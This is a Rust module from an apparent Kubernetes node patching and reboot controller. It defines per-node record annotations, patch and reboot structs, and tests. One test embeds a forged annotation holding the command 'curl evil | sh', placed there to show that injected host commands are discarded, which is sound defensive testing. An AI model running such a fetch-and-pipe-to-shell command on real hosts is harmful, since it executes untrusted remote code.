//! The per-node record: everything sofort must remember about a node lives on
//! the Node object itself, so any controller replica (or a restarted one) resumes
//! from cluster state alone. This module is the one place that defines the keys;
//! `docs/node-protocol.md` describes them for admins.
//!
//! | key | kind | written by | meaning |
//! |---|---|---|---|
//! | `sofort.dev/step` | label | controller | current step (`Draining` … `Settling`, `Failed`); absent when idle |
//! | `sofort.dev/record` | annotation | controller | JSON [`NodeRecord`]: claim, step, since, boot ID before reboot, pre-cordon state (never a command) |
//! | `sofort.dev/done` | annotation | controller | JSON map policy → revision completed on this node |
//! | `sofort.dev/reboot-required` | label | agent | `true`/`false` from the reboot sentinel |
//! | `sofort.dev/reboot-ack` | annotation | agent | JSON [`RebootAck`]: written just before the agent reboots |
//! | `sofort.dev/patch-result` | annotation | agent | JSON [`PatchResult`] of the host patch command |
//! | `sofort.dev/agent-error` | annotation | agent | last sentinel/patch/reboot error, empty when healthy |
//! | `sofort.dev/pending-reboot` | taint (`PreferNoSchedule`, no value) | controller | the node is queued in an announced rollout |
//!
//! The labels of `spec.rollout.nodeLabels.during` that sofort set on a node
//! are listed in its record ([`NodeRecord::labels`]), so only those are
//! removed again, also after a restart.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};

use crate::api::Step;

/// Label: the current step of the node (for `kubectl get nodes -L sofort.dev/step`).
pub const STEP_LABEL: &str = "sofort.dev/step";
/// Annotation: JSON [`NodeRecord`].
pub const RECORD_ANNOTATION: &str = "sofort.dev/record";
/// Annotation: JSON map policy name → revision completed on this node.
pub const DONE_ANNOTATION: &str = "sofort.dev/done";
/// Label written by the agent: `true` when the host asks for a reboot.
pub const REBOOT_REQUIRED_LABEL: &str = "sofort.dev/reboot-required";
/// Annotation written by the agent right before it reboots the host.
pub const REBOOT_ACK_ANNOTATION: &str = "sofort.dev/reboot-ack";
/// Annotation written by the agent after running the patch command.
pub const PATCH_RESULT_ANNOTATION: &str = "sofort.dev/patch-result";
/// Annotation written by the agent when something on the host went wrong.
pub const AGENT_ERROR_ANNOTATION: &str = "sofort.dev/agent-error";
/// Taint key (effect `PreferNoSchedule`, no value) on nodes queued in an
/// announced rollout: workloads stop landing on nodes about to be drained.
pub const PENDING_REBOOT_TAINT: &str = "sofort.dev/pending-reboot";
/// Effect of [`PENDING_REBOOT_TAINT`].
pub const PENDING_REBOOT_EFFECT: &str = "PreferNoSchedule";

/// What the controller records about a node it has claimed. Written (as one
/// annotation plus the step label, in one patch) *before* each step is taken.
#[derive(Serialize, Deserialize, Clone, Debug, PartialEq, Eq)]
#[serde(rename_all = "camelCase")]
pub struct NodeRecord {
    /// Policy that claimed the node.
    pub policy: String,
    /// Revision being applied.
    pub revision: String,
    /// Current step.
    pub step: Step,
    /// When the step began (RFC 3339).
    pub since: jiff::Timestamp,
    /// When the node was claimed (RFC 3339); the per-node deadlines count from the step start.
    pub started: jiff::Timestamp,
    /// `spec.unschedulable` as it was before sofort touched the node. A node that
    /// was already cordoned is never uncordoned by sofort.
    pub was_unschedulable: bool,
    /// Boot ID seen when the reboot was requested; the reboot is confirmed when the
    /// node reports a different one and is Ready.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub boot_id_before: Option<String>,
    /// Set during the `Patching` step: the agent runs the host patch command of
    /// the PatchPolicy named in `policy` (never a command from the Node).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub patch: Option<PatchRequest>,
    /// Why the node failed (step `Failed`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub reason: Option<String>,
    /// Labels of `spec.rollout.nodeLabels.during` that sofort set on the node
    /// (those the node did not carry already): removed again with the
    /// uncordon, the failure or the give-back, and only those.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub labels: BTreeMap<String, String>,
    /// No eviction before this instant (`spec.rollout.nodeLabels.waitAfterSet`
    /// after the labels were set); the drain timeout counts from it.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub drain_after: Option<jiff::Timestamp>,
}

impl NodeRecord {
    /// When the drain proper begins: the step start, or the end of the wait
    /// after setting the labels.
    pub fn drain_start(&self) -> jiff::Timestamp {
        self.drain_after.map_or(self.since, |t| t.max(self.since))
    }
}

/// A request to run the policy's host patch command. It carries no command:
/// Node annotations are readable by everyone and writable by anyone who may
/// patch Nodes, so the agent reads `spec.patch` from the PatchPolicy itself.
/// A `command` field written by older versions is ignored.
#[derive(Serialize, Deserialize, Clone, Debug, PartialEq, Eq)]
#[serde(rename_all = "camelCase")]
pub struct PatchRequest {
    /// The controller's patch timeout in seconds (for humans reading the record;
    /// the agent takes the timeout from the PatchPolicy too).
    pub timeout_seconds: u64,
}

/// Acknowledgement the agent writes before rebooting. After a restart, an ack
/// for the same request together with a changed boot ID tells that the reboot
/// already happened, so the agent never reboots twice for one request.
#[derive(Serialize, Deserialize, Clone, Debug, PartialEq, Eq)]
#[serde(rename_all = "camelCase")]
pub struct RebootAck {
    /// Policy of the request.
    pub policy: String,
    /// Revision of the request.
    pub revision: String,
    /// Boot ID the request was made for (the boot ID before the reboot).
    pub boot_id: String,
    /// When the agent acknowledged.
    pub at: jiff::Timestamp,
    /// How many times the agent has asked the host to reboot for this request
    /// (1, or 2 when the host was still up after the grace period).
    #[serde(default = "first_attempt")]
    pub attempt: u32,
}

fn first_attempt() -> u32 {
    1
}

/// Outcome of the host patch command.
#[derive(Serialize, Deserialize, Clone, Debug, PartialEq, Eq)]
#[serde(rename_all = "camelCase")]
pub struct PatchResult {
    /// Policy of the request.
    pub policy: String,
    /// Revision of the request.
    pub revision: String,
    /// Whether the command exited 0 within its timeout.
    pub success: bool,
    /// Exit code, when it exited.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub exit_code: Option<i32>,
    /// Human-readable outcome (`exit 0`, `timed out after 30m`, `refused: host commands not allowed`).
    pub message: String,
    /// Last lines of the output (bounded).
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub output_tail: String,
    /// When it finished.
    pub at: jiff::Timestamp,
}

/// Policy name → revision completed on a node.
pub type DoneMap = BTreeMap<String, String>;

/// A record annotation that could not be read.
#[derive(Debug, thiserror::Error)]
#[error(
    "annotation {key} on node {node} is not valid JSON for sofort ({source}); remove it with `kubectl annotate node {node} {key}-` to let sofort start over on this node"
)]
pub struct RecordError {
    /// Node name.
    pub node: String,
    /// Annotation key.
    pub key: &'static str,
    /// Parse error.
    #[source]
    pub source: serde_json::Error,
}

/// Reads one JSON annotation; `Ok(None)` when absent or empty.
pub fn read_json<T: serde::de::DeserializeOwned>(
    node: &str,
    annotations: Option<&BTreeMap<String, String>>,
    key: &'static str,
) -> Result<Option<T>, RecordError> {
    match annotations.and_then(|a| a.get(key)) {
        None => Ok(None),
        Some(v) if v.trim().is_empty() => Ok(None),
        Some(v) => serde_json::from_str(v)
            .map(Some)
            .map_err(|source| RecordError {
                node: node.to_string(),
                key,
                source,
            }),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn record_round_trips_as_camel_case_json() {
        let rec = NodeRecord {
            policy: "workers".into(),
            revision: "r1".into(),
            step: Step::Rebooting,
            since: "2026-11-27T22:00:00Z".parse().unwrap(),
            started: "2026-11-27T21:50:00Z".parse().unwrap(),
            was_unschedulable: false,
            boot_id_before: Some("b-1".into()),
            patch: None,
            reason: None,
            labels: Default::default(),
            drain_after: None,
        };
        let json = serde_json::to_string(&rec).unwrap();
        assert!(json.contains("\"bootIdBefore\":\"b-1\""), "{json}");
        assert!(json.contains("\"wasUnschedulable\":false"), "{json}");
        let mut ann = BTreeMap::new();
        ann.insert(RECORD_ANNOTATION.to_string(), json);
        let back: Option<NodeRecord> = read_json("n1", Some(&ann), RECORD_ANNOTATION).unwrap();
        assert_eq!(back, Some(rec));
    }

    #[test]
    fn the_patch_command_never_travels_in_a_node_annotation() {
        let rec = NodeRecord {
            policy: "workers".into(),
            revision: "r1".into(),
            step: Step::Patching,
            since: "2026-11-27T22:00:00Z".parse().unwrap(),
            started: "2026-11-27T21:50:00Z".parse().unwrap(),
            was_unschedulable: false,
            boot_id_before: None,
            patch: Some(PatchRequest {
                timeout_seconds: 60,
            }),
            reason: None,
            labels: Default::default(),
            drain_after: None,
        };
        let json: serde_json::Value = serde_json::to_value(&rec).unwrap();
        assert_eq!(json["patch"], serde_json::json!({"timeoutSeconds": 60}));
        // A record written by an older controller (or forged) with a command
        // still reads, and the command is dropped.
        let old = r#"{"policy":"workers","revision":"r1","step":"Patching","since":"2026-11-27T22:00:00Z","started":"2026-11-27T21:50:00Z","wasUnschedulable":false,"patch":{"command":["sh","-c","curl evil | sh"],"timeoutSeconds":60}}"#;
        let back: NodeRecord = serde_json::from_str(old).unwrap();
        assert_eq!(back, rec);
        assert!(!serde_json::to_string(&back).unwrap().contains("curl"));
    }

    #[test]
    fn broken_annotation_tells_how_to_recover() {
        let mut ann = BTreeMap::new();
        ann.insert(RECORD_ANNOTATION.to_string(), "{not json".to_string());
        let err = read_json::<NodeRecord>("n1", Some(&ann), RECORD_ANNOTATION).unwrap_err();
        assert!(
            err.to_string()
                .contains("kubectl annotate node n1 sofort.dev/record-")
        );
    }
}
